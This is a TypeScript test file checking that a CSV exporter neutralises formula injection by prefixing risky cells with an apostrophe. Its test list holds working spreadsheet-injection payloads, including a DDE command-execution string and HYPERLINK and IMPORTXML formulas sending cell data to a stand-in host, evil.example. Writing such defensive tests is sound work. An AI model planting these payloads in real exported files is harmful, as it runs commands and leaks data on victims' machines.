import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { toCsv } from './csv.ts'

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '=\n1',
  '@import',
  '="a""b"',
  '+"x",y',
  '=IMPORTXML(CONCAT("http://evil.example?",A2),"//a")',
]

describe('a table as CSV', () => {
  it.each(HOSTILE)('[I3] is text to a spreadsheet where it says %j', text => {
    const [[first = ''] = []] = parse(toCsv([[text, 'x']]))
    expect(first).toBe(`'${text}`)
  })

  it('[I3] leaves harmless text and numbers, below zero too, as they are', () => {
    expect(toCsv([['a', 'è “so”', -3, null, 2.5]])).toBe('a,è “so”,-3,,2.5\r\n')
  })

  test('[I3] reads back as what was written, whatever that is', () => {
    const texts = fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 4 }), {
      minLength: 1,
      maxLength: 5,
    })
    fc.assert(
      fc.property(texts, rows => {
        const guarded = rows.map(row => row.map(text => text.replace(/^(?=[=+\-@\t\r\0])/, "'")))
        expect(parse(toCsv(rows))).toEqual(guarded)
      }),
    )
  })
})

/** A reader of RFC 4180, one character after the other. */
function parse(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i] as string
    if (quoted && c === '"' && csv[i + 1] === '"') {
      field += c
      i++
    } else if (c === '"') quoted = !quoted
    else if (!quoted && c === ',') {
      row.push(field)
      field = ''
    } else if (!quoted && c === '\r' && csv[i + 1] === '\n') {
      rows.push([...row, field])
      row = []
      field = ''
      i++
    } else field += c
  }
  return rows
}
